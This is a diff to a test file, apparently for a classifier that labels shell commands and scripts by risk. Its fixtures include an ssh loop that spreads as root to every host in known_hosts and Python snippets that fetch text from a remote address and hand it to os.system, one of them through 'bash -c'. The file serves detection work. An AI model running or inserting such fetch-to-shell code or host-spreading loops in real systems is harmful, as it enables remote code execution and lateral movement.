@@ -112,6 +112,10 @@ const EXACT: readonly (readonly [string, string])[] = [
   ["tc filter add dev eth0 ingress bpf obj=/usr/lib/.q.o", "uses-hidden-file"],
   ["touch /var/lib/.stamp; git --git-dir=/etc/.git gc; restic -p /root/.restic backup /srv", ""],
   ["flock /var/lib/.job.lock true", ""],
+  [
+    "mysqldump --defaults-extra-file=/etc/.my.cnf x; rsync -a --exclude=/opt/.x --exclude /opt/.y /opt/ /srv/",
+    "",
+  ],
   // From host to host.
   ["for h in $(cut -d' ' -f1 /root/.ssh/known_hosts | sort -u); do ssh root@$h true; done", "spreads"],
   ["for h in a b; do ssh root@$h.example.test true; done", ""],
@@ -814,6 +818,18 @@ describe("scripts in files", () => {
       "/srv/a",
       "#!/usr/bin/python3\nimport subprocess\nfrom urllib.request import urlopen\nfor host in urlopen('http://192.0.2.7/t'):\n    subprocess.run(['ping', host])\n",
       "fetch",
+    ],
+    [
+      "python checks out the tag a page names",
+      "/srv/a",
+      "#!/usr/bin/python3\nimport os\nfrom urllib.request import urlopen\ntag = urlopen('http://192.0.2.7/t').read()\nos.system('git -C /srv/x checkout ' + tag)\n",
+      "fetch",
+    ],
+    [
+      "python gives a shell what a page says",
+      "/srv/a",
+      "#!/usr/bin/python3\nimport os\nfrom urllib.request import urlopen\ntag = urlopen('http://192.0.2.7/t').read()\nos.system('bash -c ' + tag)\n",
+      "fetch fetch-to-interpreter",
     ],
     [
       "python runs a mail's subject",
